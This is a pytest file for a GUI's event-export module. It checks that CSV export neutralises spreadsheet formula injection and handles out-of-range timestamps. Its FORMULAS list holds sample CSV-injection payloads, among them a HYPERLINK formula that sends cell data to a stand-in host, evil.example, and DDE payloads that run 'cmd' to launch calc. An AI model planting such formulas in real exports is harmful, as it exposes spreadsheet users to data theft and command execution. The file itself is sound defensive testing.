"""Hostile input, export class: a payload never runs in a spreadsheet, never fails an export.

CSV cells starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return are
run as formulas by spreadsheets (OWASP "CSV injection"): text cells get a
leading ``'``; numeric columns stay numbers. A timestamp no calendar holds is
exported as its raw number.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from gui.core import export, query
from tests.core.history_data import add, event, make_store

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


def test_csv_neutralises_formulas_in_every_text_cell(tmp_path: Path) -> None:
    store = make_store(tmp_path)
    try:
        events = []
        for n, formula in enumerate(FORMULAS):
            ev = event(n, identity_name=formula, identity_id=formula + str(n), score=-0.5)
            ev["ep_info"] = {**ev["ep_info"], "ep_name": formula}
            ev["identity_info"] = {**ev["identity_info"], "department": formula}
            events.append(ev)
        events.append(event(99, identity_name="-12.5", identity_id="plain"))
        add(store, events)
        out = tmp_path / "events.csv"
        export.export_events(store.reader(), query.EventFilter(), out, "csv")
    finally:
        store.close()
    rows = {r["identity_id"]: r for r in _rows(out)}
    for n, formula in enumerate(FORMULAS):
        row = rows["'" + formula + str(n)]
        for column in ("identity_name", "ep_info.ep_name", "identity_info.department"):
            assert row[column] == "'" + formula, column
        assert row["score"] == "-0.5"  # a number stays a number
        assert row["id"].isdigit()
    assert rows["plain"]["identity_name"] == "-12.5"  # a number written as text is harmless


@pytest.mark.parametrize("text", ["=1", "+a", "-a", "@a", "\ta", "\ra"])
def test_neutralise_prefixes_every_formula_start(text: str) -> None:
    assert export.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["1", "-1", "+1.5", "-2e5", "a=b", "张伟", ""])
def test_neutralise_leaves_other_text(text: str) -> None:
    assert export.neutralise(text) == text


@pytest.mark.parametrize("timestamp", [10**17, -(10**17), 2**63 - 1])
def test_an_out_of_range_timestamp_never_fails_an_export(tmp_path: Path, timestamp: int) -> None:
    store = make_store(tmp_path)
    try:
        add(store, [event(1, timestamp=timestamp), event(2)])
        for fmt, images in (("csv", tmp_path / "photos"), ("jsonl", tmp_path / "photos.zip")):
            out = tmp_path / f"events.{fmt}"
            result = export.export_events(
                store.reader(), query.EventFilter(), out, fmt, images=images
            )
            assert result.events == 2 and result.images == 8
    finally:
        store.close()
    stamps = sorted(r["timestamp"] for r in _rows(tmp_path / "events.csv"))
    assert str(timestamp) in stamps
